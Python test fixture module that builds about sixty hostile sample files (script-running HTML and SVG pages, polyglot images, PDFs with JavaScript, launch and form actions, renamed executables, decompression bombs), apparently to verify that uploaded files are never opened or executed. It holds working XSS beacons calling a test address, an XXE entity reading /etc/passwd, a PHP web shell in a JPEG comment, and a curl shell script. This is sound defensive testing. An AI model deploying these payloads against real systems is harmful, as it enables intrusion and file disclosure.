"""Sixty made-up files that would run, call home or burst if anything opened them as what they are."""

import gzip

from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.custody.bombs import bombs
from tests.custody.crafting import archive, document
from tests.custody.samples import chunk, jpeg, picture, png, saved, segment

RAN = "it-ran"  # what a page's title becomes where something ran


def script(home: str) -> str:
    """What any of them would do: rename the page and call home."""
    return f"document.title='{RAN}';try{{top.document.title='{RAN}'}}catch(e){{}};fetch('{home}/ran')"


def marks(home: str) -> str:
    """The same as HTML, by every way that loads or runs without a click."""
    return (
        f"<script>{script(home)}</script><img src='{home}/image' onerror=\"{script(home)}\">"
        f"<iframe src='{home}/frame'></iframe><link rel=stylesheet href='{home}/style'>"
        f'<svg onload="{script(home)}"></svg><body onload="{script(home)}">'
    )


def svg(home: str, inside: str = "", attribute: str = "") -> bytes:
    """A drawing that runs."""
    inside = inside or f"<script>{script(home)}</script>"
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" {attribute}>{inside}</svg>'.encode()


def acting(kind: str, where: str, home: str) -> bytes:
    """A document with an action, when it is opened or when its page is."""
    actions = {
        "javascript": Dictionary(S=Name.JavaScript, JS=String(f"app.launchURL('{home}/pdf');{script(home)}")),
        "uri": Dictionary(S=Name.URI, URI=String(f"{home}/uri")),
        "launch": Dictionary(S=Name.Launch, F=String("calc.exe")),
        "submit": Dictionary(S=Name.SubmitForm, F=String(f"{home}/form")),
        "remote": Dictionary(S=Name.GoToR, F=String(f"{home}/other.pdf")),
    }

    def fill(found: Pdf) -> None:
        page = found.pages[0].obj
        action = actions[kind]
        if where == "open":
            found.Root.OpenAction = action
        elif where == "page":
            page.AA = Dictionary(O=action)
        else:
            link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 200, 200], A=action)
            page.Annots = Array([found.make_indirect(link)])

    return document(fill)


def carrying(name: str, data: bytes) -> bytes:
    """A document with an attached file."""

    def fill(found: Pdf) -> None:
        found.attachments[name] = data

    return document(fill)


def moving(subtype: str) -> bytes:
    """A document with a film or a scene on its page."""

    def fill(found: Pdf) -> None:
        thing = Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=[0, 0, 99, 99])
        thing.RichMediaContent = Dictionary(Assets=Dictionary(Names=Array([])))
        found.pages[0].obj.Annots = Array([found.make_indirect(thing)])

    return document(fill)


def xfa(home: str) -> bytes:
    """A document with a form that runs."""
    text = f'<template><script contentType="application/x-javascript">{script(home)}</script></template>'

    def fill(found: Pdf) -> None:
        found.Root.AcroForm = Dictionary(Fields=Array([]), XFA=found.make_stream(text.encode()))

    return document(fill)


def mail(kind: str, home: str) -> bytes:
    """A saved page, as browsers save them whole."""
    head = f'MIME-Version: 1.0\r\nContent-Type: {kind}; boundary="b"; type="text/html"\r\n\r\n--b\r\n'
    return f"{head}Content-Type: text/html\r\n\r\n<html>{marks(home)}</html>\r\n--b--\r\n".encode()


def warc(home: str) -> bytes:
    """A web archive of one page that runs."""
    page = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n{marks(home)}".encode()
    head = (
        f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {home}/\r\nContent-Length: {len(page)}\r\n\r\n"
    )
    return head.encode() + page + b"\r\n\r\n"


def pages(home: str) -> dict[str, bytes]:
    """Pages and drawings that run."""
    html, xhtml = marks(home).encode(), "http://www.w3.org/1999/xhtml"
    called = f'<image href="{home}/svg" width="9" height="9"/>'
    foreign = f'<foreignObject><body xmlns="{xhtml}"><script>{script(home)}</script></body></foreignObject>'
    return {
        "html": b"<!doctype html>" + html,
        "html-bare": html,
        "html-utf16": "\ufeff<html>".encode("utf-16-le") + marks(home).encode("utf-16-le"),
        "html-utf7": f"+ADw-script+AD4-{script(home)}+ADw-/script+AD4-".encode(),
        "html-refresh": f'<meta http-equiv=refresh content="0;url={home}/refresh">'.encode(),
        "html-base": f'<base href="{home}/"><script src=ran.js></script>'.encode(),
        "html-after-text": b"A plain note.\n" * 9 + html,
        "xhtml": f'<?xml version="1.0"?><html xmlns="{xhtml}"><script>{script(home)}</script></html>'.encode(),
        "xslt": f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{home}/x.xsl"?><x/>'.encode(),
        "svg-script": svg(home),
        "svg-onload": svg(home, " ", f'onload="{script(home)}"'),
        "svg-foreign": svg(home, foreign),
        "svg-image": svg(home, called),
        "svg-animated": svg(
            home, f'<a href="x"><animate attributeName="href" values="javascript:{script(home)}"/></a>'
        ),
        "svgz": gzip.compress(svg(home)),
        "svg-entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + svg(home, "<text>&x;</text>"),
        "mhtml": mail("multipart/related", home),
        "eml": mail("multipart/mixed", home),
        "warc": warc(home),
        "warc-packed": gzip.compress(warc(home)),
        "javascript": script(home).encode(),
        "css": f"@import '{home}/style'; body {{ background: url({home}/back) }}".encode(),
        "url-file": f"[InternetShortcut]\r\nURL={home}/shortcut\r\n".encode(),
        "rtf": b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "%b/rtf"}}}' % home.encode(),
    }


def polyglots(home: str) -> dict[str, bytes]:
    """Files that are two things at once."""
    html = marks(home).encode()
    jar = archive({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"})
    gif = saved(picture("P"), "GIF")
    running = script(home).encode()
    return {
        "gif-jar": gif + jar,
        "gif-javascript": b"GIF89a/*" + gif[8:] + b"*/=1;" + running,
        "jpeg-html": jpeg(segment(0xFE, html)),
        "jpeg-javascript": jpeg(segment(0xFE, b"*/=1;" + running + b"/*"), after=running),
        "jpeg-zip": jpeg(after=archive({"run.js": running})),
        "jpeg-php": jpeg(segment(0xFE, b"<?php system($_GET['x']); ?>")),
        "png-html": png(chunk(b"tEXt", b"a\0" + html), after=html),
        "png-javascript": png(chunk(b"prVt", running)),
        "png-svg": png(after=svg(home)),
        "webp-html": saved(picture(), "WEBP", xmp=html),
        "tiff-html": saved(picture(), "TIFF", tiffinfo={270: html.decode()}),
        "pdf-html": carrying("x", b"") + html,
        "html-pdf": html + acting("javascript", "open", home),
        "bmp-javascript": b"BM/*" + saved(picture(), "BMP")[4:] + b"*/=1;" + running,
    }


def programs(home: str) -> dict[str, bytes]:
    """Programs, and documents that run, under whatever name."""
    word = {
        "[Content_Types].xml": b"<Types/>",
        "word/document.xml": b"<w/>",
        "word/vbaProject.bin": b"\xd0\xcf",
    }
    return {
        "exe-renamed": b"MZ" + b"\0" * 58 + b"\x40\0\0\0PE\0\0",
        "elf-renamed": b"\x7fELF\x02\x01\x01" + b"\0" * 60,
        "shell": f"#!/bin/sh\ncurl {home}/shell\n".encode(),
        "docm": archive(word),
        "hta": f"<html><HTA:APPLICATION><script>{script(home)}</script></html>".encode(),
    }


def documents(home: str) -> dict[str, bytes]:
    """PDF documents that act."""
    return {
        "pdf-javascript": acting("javascript", "open", home),
        "pdf-uri": acting("uri", "link", home),
        "pdf-launch": acting("launch", "page", home),
        "pdf-submit": acting("submit", "open", home),
        "pdf-attachment": carrying("run.html", marks(home).encode()),
        "pdf-film": moving("RichMedia"),
        "pdf-scene": moving("3D"),
        "pdf-form": xfa(home),
    }


def hostile(home: str) -> dict[str, bytes]:
    """All of them, by name; `home` is an address that is told when one of them ran."""
    burst = {
        f"bomb-{name}": data
        for name, data in bombs().items()
        if name not in ("pdf-image", "gif", "png-400-mpx", "xml")
    }
    return {**pages(home), **polyglots(home), **programs(home), **documents(home), **burst}
